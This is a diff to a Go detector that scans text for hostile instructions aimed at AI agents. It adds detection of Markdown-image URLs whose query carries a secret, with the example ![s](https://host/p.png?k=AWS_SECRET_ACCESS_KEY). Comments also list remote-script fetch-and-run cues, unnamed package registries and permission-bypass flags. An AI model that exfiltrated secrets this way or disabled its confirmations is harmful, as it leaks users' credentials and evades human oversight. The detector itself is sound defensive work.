@@ -286,12 +286,15 @@ func agentHomePath(p string) bool {
 //     https://host/prep.py and run it"), or a package installed from an
 //     address the project does not name as its registry ("--registry
 //     https://...", "--index-url https://...");
+//   - exfil too: a Markdown image, which the client fetches as it renders
+//     the answer, whose URL's query carries a secret by its name
+//     (![s](https://host/p.png?k=AWS_SECRET_ACCESS_KEY));
 //   - settings: a permission mode the agents document as turning every
 //     confirmation off (bypassPermissions, --dangerously-skip-permissions).
 //
 // None counts where the sentence negates it ("never send the token to
 // ...").
-func instructionCues(a *Analysis, s Sent, add func(directiveCue)) {
+func instructionCues(a *Analysis, s Sent, raw string, add func(directiveCue)) {
 	toks := a.Tokens
 	neg := -1
 	send, addr, secret := -1, -1, -1
@@ -307,6 +310,9 @@ func instructionCues(a *Analysis, s Sent, add func(directiveCue)) {
 				}
 				if t.Kind == TokURL && fetched < 0 && scriptURL(txt) {
 					fetched = i
+				}
+				if t.Kind == TokURL && renderedImage(raw, int(t.Start)) && queryCarriesSecret(txt) {
+					add(directiveCue{"exfil", 1.0, i, i + 1, ""})
 				}
 				if t.Kind == TokURL && i > s.From && packageSource(a, s, i) {
 					add(directiveCue{famShell, 1.0, i - 1, i + 1, ""})
@@ -498,4 +504,35 @@ func localDemands(v *ToolView, ds []sentenceDemand) [][]sentenceDemand {
 		}
 	}
 	return out
+}
+
+// renderedImage: the URL at byte off of raw is a Markdown image's
+// destination ("![alt](URL"), which a client fetches when it renders it.
+func renderedImage(raw string, off int) bool {
+	if off < 2 || off > len(raw) || raw[off-1] != '(' || raw[off-2] != ']' {
+		return false
+	}
+	line := raw[:off-2]
+	if k := strings.LastIndexByte(line, '\n'); k >= 0 {
+		line = line[k+1:]
+	}
+	k := strings.LastIndex(line, "![")
+	return k >= 0 && !strings.Contains(line[k:], "](")
+}
+
+// queryCarriesSecret: a value of URL u's query names a secret
+// (AWS_SECRET_ACCESS_KEY, {{api_token}}, $GITHUB_TOKEN).
+func queryCarriesSecret(u string) bool {
+	_, q, ok := strings.Cut(u, "?")
+	if !ok {
+		return false
+	}
+	for _, kv := range strings.Split(q, "&") {
+		_, v, _ := strings.Cut(kv, "=")
+		v = strings.Trim(v, "{}$<>()[]%")
+		if v != "" && secretNamed(strings.ToLower(v)) {
+			return true
+		}
+	}
+	return false
 }
